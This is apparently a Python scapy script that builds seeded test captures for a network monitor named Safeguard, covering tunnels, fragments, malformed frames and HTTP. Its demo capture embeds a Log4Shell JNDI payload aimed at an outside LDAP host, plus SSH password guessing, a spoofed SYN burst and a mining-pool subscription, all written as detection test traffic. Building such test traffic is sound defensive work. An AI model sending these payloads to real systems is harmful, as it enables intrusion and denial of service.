#!/usr/bin/python3
"""Seeded capture generator for Safeguard's tests and demo.

Every capture is a pure function of its name and the seed: the same bytes on
every machine, so tests can assert exact counts. Run with Debian's python
(/usr/bin/python3), which has scapy.

    scripts/gen-pcaps.py OUTDIR [NAME ...]      # default: all captures

Captures:
  demo       the sample shipped for the README's first command: a small cloud
             tenant's traffic (web, DNS, SSH, overlay tunnels, IPv6) plus an
             SSH password-guessing run, a burst of spoofed SYNs, a Log4Shell
             probe and a mining pool connection
  tunnels    one TCP conversation inside each overlay Safeguard decodes:
             VXLAN, GENEVE, GRE (transparent Ethernet bridging), GRE with key,
             ERSPAN II and III, and QinQ-tagged frames
  malformed  frames broken at every layer (truncated headers, bad lengths)
  damaged    a valid capture whose last record is cut short (a crashed tap)
  linux-sll  a capture with the Linux "cooked" link type (not Ethernet)
  ieee802-11 an 802.11 wireless capture (link type 105): a link type Safeguard refuses
  jumbo      9000-byte frames (chained mbufs), plain and inside VXLAN
  fragments  IPv4 fragments: requests cut in 16-byte pieces, an overlap, an unfinished datagram
  tunnel-spread  one VXLAN tunnel carrying eight inner conversations (outer flow merge)
  empty      a valid capture with no records (an idle port's input)
  http       HTTP/1.x conversations for the transaction log: keep-alive with pipelined
             GET/HEAD/POST, chunked and Content-Length bodies, headers split across
             segments, a 100 Continue, a response that runs to the close, a 304, a
             request never answered, and a non-HTTP client on port 80
  bad-*      broken capture files (written byte by byte, see BAD_CAPTURES): a record
             header or record data cut short, a snaplen of 0 or 0xffffffff in the file
             header, a record longer than the snaplen or than its original length,
             an unknown link type, a file header cut short, a text file, an empty file
"""

import random
import struct
import sys

import pcapgen  # beside this script: the shared command line

import logging

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)  # mixed Raw/Ether records are on purpose

from scapy.all import (ARP, fragment, DNS, DNSQR, DNSRR, GRE, ICMP, IP, TCP, UDP, Dot1AD, Dot1Q,
                       Ether, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                       IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, Raw, wrpcap)
from scapy.layers.l2 import CookedLinux

DLT_EN10MB = 1
SEED = 20261128
T0 = 1_700_000_000.0  # 2023-11-14T22:13:20Z: every capture starts here

CLIENT_MAC = "02:00:00:00:00:01"
SERVER_MAC = "02:00:00:00:00:02"


def eth(payload, src=CLIENT_MAC, dst=SERVER_MAC):
    return Ether(src=src, dst=dst) / payload


class Clock:
    """Monotonic packet time with seeded jitter."""

    def __init__(self, rng, start=T0):
        self.rng = rng
        self.t = start

    def tick(self, mean=0.01):
        self.t += self.rng.expovariate(1.0 / mean)
        return self.t


def stamp(pkt, t):
    pkt.time = t
    return pkt


def tcp_conversation(rng, clock, cli, srv, sport, dport, request, response, ip=IP,
                     wrap=eth):
    """Handshake, one request, one response, FIN both ways: 8 packets."""
    cseq, sseq = rng.randrange(1 << 32), rng.randrange(1 << 32)
    out = []

    def add(src, dst, sp, dp, flags, seq, ack, data=b""):
        seg = ip(src=src, dst=dst) / TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack)
        if data:
            seg = seg / Raw(data)
        out.append(stamp(wrap(seg), clock.tick()))

    add(cli, srv, sport, dport, "S", cseq, 0)
    add(srv, cli, dport, sport, "SA", sseq, cseq + 1)
    add(cli, srv, sport, dport, "A", cseq + 1, sseq + 1)
    add(cli, srv, sport, dport, "PA", cseq + 1, sseq + 1, request)
    add(srv, cli, dport, sport, "PA", sseq + 1, cseq + 1 + len(request), response)
    add(cli, srv, sport, dport, "FA", cseq + 1 + len(request), sseq + 1 + len(response))
    add(srv, cli, dport, sport, "FA", sseq + 1 + len(response), cseq + 2 + len(request))
    add(cli, srv, sport, dport, "A", cseq + 2 + len(request), sseq + 2 + len(response))
    return out


class TcpSession:
    """One TCP connection written segment by segment, with the peer's ACKs:
    send() puts bytes on the wire from one side (in pieces), ack() makes the
    other side acknowledge everything it received."""

    def __init__(self, rng, clock, out, cli, srv, sport, dport):
        self.clock, self.out = clock, out
        self.ends = [(cli, sport), (srv, dport)]
        self.seq = [rng.randrange(1 << 32), rng.randrange(1 << 32)]
        self.seg(0, "S", b"")
        self.seq[0] += 1
        self.seg(1, "SA", b"")
        self.seq[1] += 1
        self.seg(0, "A", b"")

    def seg(self, side, flags, data):
        (src, sp), (dst, dp) = self.ends[side], self.ends[1 - side]
        ack = self.seq[1 - side] if "A" in flags else 0
        pkt = IP(src=src, dst=dst) / TCP(sport=sp, dport=dp, flags=flags, seq=self.seq[side], ack=ack)
        if data:
            pkt = pkt / Raw(data)
        self.out.append(stamp(eth(pkt), self.clock.tick()))

    def send(self, side, data, pieces=(1460,)):
        """`data` from `side` (0: client), cut at the sizes in `pieces` (the last repeats)."""
        i, k = 0, 0
        while i < len(data):
            n = pieces[min(k, len(pieces) - 1)]
            self.seg(side, "PA", data[i:i + n])
            self.seq[side] += len(data[i:i + n])
            i, k = i + n, k + 1

    def ack(self, side):
        self.seg(side, "A", b"")

    def close(self, first=0):
        self.seg(first, "FA", b"")
        self.seq[first] += 1
        self.seg(1 - first, "FA", b"")
        self.seq[1 - first] += 1
        self.seg(first, "A", b"")


def gen_http(rng):
    """HTTP/1.x transactions whose eve http events were compared with Suricata 7."""
    clock = Clock(rng)
    out = []
    # Keep-alive, pipelined: GET (Content-Length), HEAD, POST with a body, GET (chunked).
    s = TcpSession(rng, clock, out, "10.2.0.10", "10.2.0.80", 40001, 80)
    s.send(0, b"GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: gen-pcaps/1.0\r\n"
              b"Referer: http://www.example.com/\r\n\r\n"
              b"HEAD /logo.png HTTP/1.1\r\nHost: WWW.Example.com:8080\r\n\r\n"
              b"POST /form?x=1 HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 11\r\n\r\nfield=value"
              b"GET /stream HTTP/1.1\r\nHost: www.example.com\r\n\r\n")
    s.ack(1)
    body = b"<html>" + b"x" * 2000 + b"</html>"
    s.send(1, b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(body)
           + body, pieces=(700, 1460))
    s.ack(0)
    s.send(1, b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 5000\r\n\r\n"
              b"HTTP/1.1 302 Found\r\nLocation: /done\r\nContent-Length: 0\r\n\r\n")
    s.ack(0)
    s.send(1, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n"
              b"10\r\n0123456789abcdef\r\n5;ext=1\r\nhello\r\n0\r\n\r\n", pieces=(40, 9, 1460))
    s.ack(0)
    s.close(first=0)
    # Headers cut in small pieces; a 100 Continue before the final answer.
    s = TcpSession(rng, clock, out, "10.2.0.11", "10.2.0.80", 40002, 80)
    s.send(0, b"PUT /upload HTTP/1.1\r\nHost: up.example.com\r\nUser-Agent: curl/8.0\r\n"
              b"Expect: 100-continue\r\nContent-Length: 4\r\n\r\n", pieces=(5, 17, 3, 30))
    s.ack(1)
    s.send(1, b"HTTP/1.1 100 Continue\r\n\r\n")
    s.ack(0)
    s.send(0, b"data")
    s.ack(1)
    s.send(1, b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok")
    s.ack(0)
    s.close(first=1)
    # HTTP/1.0: the response body runs to the server's close.
    s = TcpSession(rng, clock, out, "10.2.0.12", "10.2.0.80", 40003, 80)
    s.send(0, b"GET /old HTTP/1.0\r\nUser-Agent: legacy\r\n\r\n")
    s.ack(1)
    s.send(1, b"HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n" + b"y" * 3000)
    s.ack(0)
    s.close(first=1)
    # A 304, then a request the server never answers (logged at the flow's end).
    s = TcpSession(rng, clock, out, "10.2.0.13", "10.2.0.80", 40004, 80)
    s.send(0, b"GET /cached HTTP/1.1\r\nHost: cache.example.com\r\nIf-None-Match: \"a\"\r\n\r\n")
    s.ack(1)
    s.send(1, b"HTTP/1.1 304 Not Modified\r\nETag: \"a\"\r\n\r\n")
    s.ack(0)
    s.send(0, b"GET /slow HTTP/1.1\r\nHost: cache.example.com\r\n\r\n")
    s.ack(1)
    # Not HTTP on port 80: no transaction.
    s = TcpSession(rng, clock, out, "10.2.0.14", "10.2.0.80", 40005, 80)
    s.send(0, b"\x16\x03\x01\x00\x05hello")
    s.ack(1)
    s.send(1, b"\x16\x03\x03\x00\x02ok")
    s.ack(0)
    s.close(first=0)
    return out


def vxlan(inner, vni=5001, outer_src="192.0.2.10", outer_dst="192.0.2.20"):
    hdr = struct.pack("!BBHI", 0x08, 0, 0, vni << 8)
    return IP(src=outer_src, dst=outer_dst) / UDP(sport=49152, dport=4789) / Raw(hdr + bytes(inner))


def geneve(inner, vni=7002, outer_src="192.0.2.11", outer_dst="192.0.2.21"):
    # One 8-byte option (class 0x0102, type 0x80, 4 bytes of data): opt_len = 2 words.
    option = struct.pack("!HBB", 0x0102, 0x80, 1) + b"\x00\x00\x00\x2a"
    hdr = struct.pack("!BBHI", len(option) // 4, 0, 0x6558, vni << 8) + option
    return IP(src=outer_src, dst=outer_dst) / UDP(sport=49153, dport=6081) / Raw(hdr + bytes(inner))


def gre_teb(inner, key=None, outer_src="192.0.2.12", outer_dst="192.0.2.22"):
    if key is None:
        return IP(src=outer_src, dst=outer_dst) / GRE(proto=0x6558) / Raw(bytes(inner))
    return IP(src=outer_src, dst=outer_dst) / GRE(key_present=1, key=key, proto=0x6558) / Raw(bytes(inner))


def erspan2(inner, session=42, outer_src="192.0.2.13", outer_dst="192.0.2.23"):
    # GRE with sequence number, then the 8-byte ERSPAN type II header.
    hdr = struct.pack("!HHI", (1 << 12) | 0, (0 << 10) | session, 0)
    return IP(src=outer_src, dst=outer_dst) / GRE(seqnum_present=1, seqence_number=1, proto=0x88BE) / Raw(hdr + bytes(inner))


def erspan3(inner, session=43, outer_src="192.0.2.14", outer_dst="192.0.2.24"):
    # 12-byte ERSPAN type III header, no platform-specific subheader (O = 0).
    hdr = struct.pack("!HHII", (2 << 12) | 0, session, 0x12345678, 0)
    return IP(src=outer_src, dst=outer_dst) / GRE(seqnum_present=1, seqence_number=1, proto=0x22EB) / Raw(hdr + bytes(inner))


HTTP_REQ = b"GET /index.html HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/8.0\r\n\r\n"
HTTP_RESP = b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n"


def gen_tunnels(rng):
    clock = Clock(rng)
    pkts = []
    overlays = [
        ("vxlan", lambda p: eth(vxlan(eth(p)))),
        ("geneve", lambda p: eth(geneve(eth(p)))),
        ("gre-teb", lambda p: eth(gre_teb(eth(p)))),
        ("gre-key", lambda p: eth(gre_teb(eth(p), key=77))),
        ("erspan2", lambda p: eth(erspan2(eth(p)))),
        ("erspan3", lambda p: eth(erspan3(eth(p)))),
        ("qinq", lambda p: Ether(src=CLIENT_MAC, dst=SERVER_MAC) / Dot1AD(vlan=100) / Dot1Q(vlan=200) / p),
    ]
    for i, (_, wrap) in enumerate(overlays):
        pkts += tcp_conversation(rng, clock, f"10.20.{i}.5", "10.30.0.80", 40000 + i, 80,
                                 HTTP_REQ, HTTP_RESP, wrap=wrap)
    return pkts


def gen_fragments(rng):
    """IPv4 fragments for reassembly: per client, a TCP conversation whose
    request is sent in 16-byte fragments (the signature spans them), a UDP
    datagram with an overlapping fragment (bsd policy: the first data stays)
    and one datagram that never completes. Eight clients, so that two
    workers each get some."""
    clock = Clock(rng)
    pkts = []
    for i in range(8):
        cli, srv = f"10.40.{i}.5", "10.50.0.80"
        conv = tcp_conversation(rng, clock, cli, srv, 41000 + i, 80,
                                b"GET /?q=FRAGMENTED-ATTACK HTTP/1.1\r\nHost: x\r\n\r\n", HTTP_RESP)
        request = conv[3]
        pieces = fragment(request[IP], fragsize=16)
        pkts += conv[:3] + [stamp(eth(f), request.time) for f in pieces] + conv[4:]
        # UDP: [0,16) "OVERLAP-FIRST..." then [8,16) again with other bytes, then the tail.
        payload = b"OVERLAP-FIRST-AB" + b"tail"
        dgram = IP(src=cli, dst=srv, id=9000 + i) / UDP(sport=5000, dport=6000) / Raw(payload)
        raw = bytes(dgram[UDP])
        first = IP(src=cli, dst=srv, id=9000 + i, flags="MF", frag=0, proto=17) / Raw(raw[:16])
        overlap = IP(src=cli, dst=srv, id=9000 + i, flags="MF", frag=1, proto=17) / Raw(b"XXXXXXXX")
        last = IP(src=cli, dst=srv, id=9000 + i, frag=2, proto=17) / Raw(raw[16:])
        for f in (first, overlap, last):
            pkts.append(stamp(eth(f), clock.tick()))
        lone = IP(src=cli, dst=srv, id=9500 + i, flags="MF", frag=0, proto=17) / Raw(b"never-completed!")
        pkts.append(stamp(eth(lone), clock.tick()))
    return pkts


def gen_tunnel_spread(rng):
    """One VXLAN tunnel (one outer UDP flow, VTEP to VTEP) carrying eight
    inner conversations between different hosts: the inner flows spread
    over the workers, the outer flow must still be reported once."""
    clock = Clock(rng)
    pkts = []
    for i in range(8):
        inner_cli, inner_srv = f"10.60.{i}.5", f"10.70.{i}.9"
        for k in range(3):
            q = Ether(src=CLIENT_MAC, dst=SERVER_MAC) / IP(src=inner_cli, dst=inner_srv) / \
                UDP(sport=7000 + i, dport=53) / Raw(b"tunnel-probe-%d" % k)
            pkts.append(stamp(eth(vxlan(q, vni=6001, outer_src="192.0.2.30", outer_dst="192.0.2.40")), clock.tick()))
    return pkts


def gen_jumbo(rng):
    """9000-byte frames: larger than one mbuf, so DPDK hands them over chained."""
    clock = Clock(rng)
    body = bytes(rng.randrange(256) for _ in range(8900))
    pkts = tcp_conversation(rng, clock, "10.40.0.5", "10.40.0.9", 45000, 2049, b"READ /export/big", body)
    pkts += tcp_conversation(rng, clock, "10.41.0.5", "10.41.0.9", 45001, 80, HTTP_REQ, body[:8800],
                             wrap=lambda p: eth(vxlan(eth(p))))
    return pkts


def gen_malformed(rng):
    clock = Clock(rng)
    good = eth(IP(src="10.1.0.5", dst="10.1.0.6") / TCP(sport=1234, dport=80, flags="S"))
    raw = bytes(good)
    frames = [
        raw[:10],                                   # truncated Ethernet
        raw[:14 + 12],                              # truncated IPv4 header
        raw[:14 + 20 + 8],                          # truncated TCP header
        bytes(eth(IP(src="10.1.0.5", dst="10.1.0.6", ihl=3) / TCP())),      # IHL < 5
        bytes(eth(IP(src="10.1.0.5", dst="10.1.0.6", len=10) / TCP())),     # total length < header
        bytes(eth(IP(src="10.1.0.5", dst="10.1.0.6") / UDP(sport=53, dport=53, len=4))),  # UDP length < 8
        bytes(Ether(src=CLIENT_MAC, dst=SERVER_MAC, type=0x86DD) / Raw(b"\x60\x00\x00")),  # truncated IPv6
        bytes(eth(IP(src="10.1.0.5", dst="10.1.0.6") / TCP(dataofs=3))),    # TCP data offset < 5
        bytes(eth(vxlan(b"\x02\x00"))),                                      # VXLAN with a cut inner frame
    ]
    # Raw bytes: scapy would refuse to dissect most of these as Ethernet.
    return [stamp(Raw(f), clock.tick()) for f in frames] + [stamp(good, clock.tick())]


def gen_demo(rng):
    clock = Clock(rng)
    pkts = []
    web, db, bastion = "10.1.0.10", "10.1.0.20", "10.2.0.5"
    # Ordinary tenant traffic: web requests from the internet, DNS, ARP, ping.
    for i in range(12):
        client = f"198.51.100.{10 + i}"
        pkts += tcp_conversation(rng, clock, client, web, 50000 + i, 80, HTTP_REQ, HTTP_RESP)
    for i in range(6):
        q = IP(src=web, dst="192.0.2.53") / UDP(sport=33000 + i, dport=53) / DNS(rd=1, qd=DNSQR(qname=f"api{i}.example."))
        r = IP(src="192.0.2.53", dst=web) / UDP(sport=53, dport=33000 + i) / DNS(id=q[DNS].id, qr=1, qd=q[DNS].qd, an=DNSRR(rrname=f"api{i}.example.", rdata="203.0.113.7"))
        pkts += [stamp(eth(q), clock.tick()), stamp(eth(r, SERVER_MAC, CLIENT_MAC), clock.tick())]
    pkts.append(stamp(Ether(src=CLIENT_MAC, dst="ff:ff:ff:ff:ff:ff") / ARP(psrc=web, pdst=db), clock.tick()))
    for i in range(3):
        pkts.append(stamp(eth(IP(src=bastion, dst=db) / ICMP(type=8, id=7, seq=i)), clock.tick()))
        pkts.append(stamp(eth(IP(src=db, dst=bastion) / ICMP(type=0, id=7, seq=i)), clock.tick()))
    # IPv6 with an extension header chain.
    v6 = IPv6(src="2001:db8:1::10", dst="2001:db8:9::1") / IPv6ExtHdrHopByHop() / IPv6ExtHdrDestOpt() / UDP(sport=5353, dport=5353) / Raw(b"v6")
    pkts.append(stamp(eth(v6), clock.tick()))
    # East-west traffic of the same tenant through the VXLAN and GENEVE overlays.
    pkts += tcp_conversation(rng, clock, web, db, 41000, 5432, b"SELECT 1;", b"1",
                             wrap=lambda p: eth(vxlan(eth(p))))
    pkts += tcp_conversation(rng, clock, web, db, 41001, 5432, b"SELECT 2;", b"2",
                             wrap=lambda p: eth(geneve(eth(p))))
    # Someone guessing SSH passwords on the bastion: 40 short connections.
    for i in range(40):
        pkts += tcp_conversation(rng, clock, "203.0.113.66", bastion, 42000 + i, 22,
                                 b"SSH-2.0-libssh_0.9.6\r\n", b"SSH-2.0-OpenSSH_9.2\r\n")
    # A burst of SYNs from spoofed sources at the web server.
    for _ in range(300):
        src = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        syn = IP(src=src, dst=web) / TCP(sport=rng.randrange(1024, 65536), dport=80, flags="S", seq=rng.randrange(1 << 32))
        pkts.append(stamp(eth(syn), clock.tick(0.0005)))
    # A Log4Shell probe from the internet against the web server, and the
    # bastion, compromised, joining a Monero mining pool.
    log4shell = (b"GET /?q=${jndi:ldap://198.51.100.99:1389/a} HTTP/1.1\r\nHost: shop.example\r\n"
                 b"User-Agent: ${jndi:ldap://198.51.100.99:1389/a}\r\n\r\n")
    pkts += tcp_conversation(rng, clock, "203.0.113.77", web, 51515, 80, log4shell, b"HTTP/1.1 400 Bad Request\r\n\r\n")
    subscribe = b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21.0"]}\n'
    pkts += tcp_conversation(rng, clock, bastion, "198.51.100.200", 43000, 3333, subscribe,
                             b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],"error":null}\n')
    # A handful of broken frames, as any real wire has.
    pkts += gen_malformed(random.Random(rng.random()))[:3]
    for p in pkts[-3:]:
        p.time = clock.tick()
    return pkts


def write_damaged(path, rng):
    pkts = gen_demo(rng)[:50]
    wrpcap(str(path), pkts, linktype=DLT_EN10MB)
    data = path.read_bytes()
    path.write_bytes(data[:-25])  # cut into the last record's data


def write_linux_sll(path, rng):
    clock = Clock(rng)
    pkts = [stamp(CookedLinux(pkttype=0, lladdrtype=1, lladdrlen=6, src=b"\x02\x00\x00\x00\x00\x01\x00\x00", proto=0x0800)
                  / IP(src="10.0.0.1", dst="10.0.0.2") / ICMP(), clock.tick()) for _ in range(3)]
    wrpcap(str(path), pkts, linktype=113)


def write_ieee802_11(path, rng):
    # 802.11 data frames (to the AP) carrying IP in LLC/SNAP: raw bytes, since
    # only the link type matters to the test.
    clock = Clock(rng)
    addresses = bytes.fromhex("020000000002" "020000000001" "020000000002")  # BSSID, source, destination
    header = struct.pack("<HH", 0x0108, 0) + addresses + struct.pack("<H", 0)  # data, to DS; sequence 0
    snap = bytes.fromhex("aaaa03000000") + struct.pack("!H", 0x0800)
    pkts = [stamp(Raw(header + snap + bytes(IP(src="10.0.0.1", dst="10.0.0.2") / ICMP(seq=i))), clock.tick())
            for i in range(2)]
    wrpcap(str(path), pkts, linktype=105)


# --- broken capture files ----------------------------------------------------
# Written byte by byte (scapy would repair them): what a crashed tap, a bad
# copy or a wrong file leaves. Five small UDP frames each, so the readable
# part can be counted.

PCAP_MAGIC = 0xA1B2C3D4


def pcap_file_header(snaplen=65535, linktype=DLT_EN10MB):
    return struct.pack("<IHHiIII", PCAP_MAGIC, 2, 4, 0, 0, snaplen, linktype)


def pcap_record(frame, t, caplen=None, origlen=None):
    caplen = len(frame) if caplen is None else caplen
    origlen = len(frame) if origlen is None else origlen
    return struct.pack("<IIII", int(t), int((t % 1) * 1e6), caplen, origlen) + frame


def bad_frames(count=5):
    return [bytes(eth(IP(src="10.0.0.1", dst="10.0.0.2") / UDP(sport=4000 + i, dport=53) / Raw(b"q" * 20)))
            for i in range(count)]


def bad_capture(records, **header):
    return pcap_file_header(**header) + b"".join(pcap_record(f, T0 + i) for i, f in enumerate(records))


def write_bad(path, data):
    path.write_bytes(data)


BAD_CAPTURES = {
    # 3 whole records, then 10 of the next record header's 16 bytes
    "bad-truncated-header": lambda: bad_capture(bad_frames(3)) + pcap_record(bad_frames(1)[0], T0 + 3)[:10],
    # 3 whole records, then a record whose data ends 20 bytes early
    "bad-truncated-data": lambda: bad_capture(bad_frames(3)) + pcap_record(bad_frames(1)[0], T0 + 3)[:-20],
    "bad-snaplen-zero": lambda: bad_capture(bad_frames(), snaplen=0),
    "bad-snaplen-huge": lambda: bad_capture(bad_frames(), snaplen=0xFFFFFFFF),
    # 2 records, then one whose incl_len (300) exceeds the file's snaplen (64):
    # the 300 bytes are there, so only the length check can object
    "bad-caplen-over-snaplen": lambda: pcap_file_header(snaplen=64) + b"".join(
        pcap_record(f[:64], T0 + i, origlen=len(f)) for i, f in enumerate(bad_frames(2)))
        + pcap_record(bad_frames(1)[0] + b"\0" * 230, T0 + 2),
    # a record whose incl_len (the bytes present) exceeds its orig_len (the wire)
    "bad-caplen-over-origlen": lambda: bad_capture(bad_frames(2)) + pcap_record(bad_frames(1)[0], T0 + 2, origlen=40)
        + pcap_record(bad_frames(1)[0], T0 + 3),
    # a link type no registry has (LINKTYPE_ values stop well below 4000)
    "bad-link-type": lambda: bad_capture(bad_frames(), linktype=4000),
    "bad-short-header": lambda: pcap_file_header()[:12],
    "bad-not-a-capture": lambda: b"this is a text file, not a capture\n" * 4,
    "bad-empty-file": lambda: b"",
}


GENERATORS = {
    "demo": lambda path, rng: wrpcap(str(path), gen_demo(rng), linktype=DLT_EN10MB),
    "tunnels": lambda path, rng: wrpcap(str(path), gen_tunnels(rng), linktype=DLT_EN10MB),
    "malformed": lambda path, rng: wrpcap(str(path), gen_malformed(rng), linktype=DLT_EN10MB),
    "damaged": write_damaged,
    "linux-sll": write_linux_sll,
    "ieee802-11": write_ieee802_11,
    "jumbo": lambda path, rng: wrpcap(str(path), gen_jumbo(rng), linktype=DLT_EN10MB),
    "tunnel-spread": lambda path, rng: wrpcap(str(path), gen_tunnel_spread(rng), linktype=DLT_EN10MB),
    "fragments": lambda path, rng: wrpcap(str(path), gen_fragments(rng), linktype=DLT_EN10MB),
    "empty": lambda path, rng: wrpcap(str(path), [], linktype=DLT_EN10MB),
    "http": lambda path, rng: wrpcap(str(path), gen_http(rng), linktype=DLT_EN10MB),
    **{name: (lambda make: lambda path, rng: write_bad(path, make()))(make) for name, make in BAD_CAPTURES.items()},
}


def main(argv):
    return pcapgen.run(argv, GENERATORS, SEED, __doc__, "gen-pcaps")


if __name__ == "__main__":
    sys.exit(main(sys.argv))
